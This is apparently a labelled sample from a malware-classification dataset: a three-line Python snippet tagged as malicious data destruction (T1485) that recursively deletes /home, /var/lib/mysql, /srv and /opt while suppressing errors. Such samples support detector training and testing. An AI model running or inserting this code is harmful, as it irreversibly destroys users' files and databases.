# label: malicious family=destroy techniques=T1485 lines=3-4
import shutil
for d in ("/home", "/var/lib/mysql", "/srv", "/opt"):
    shutil.rmtree(d, ignore_errors=True)
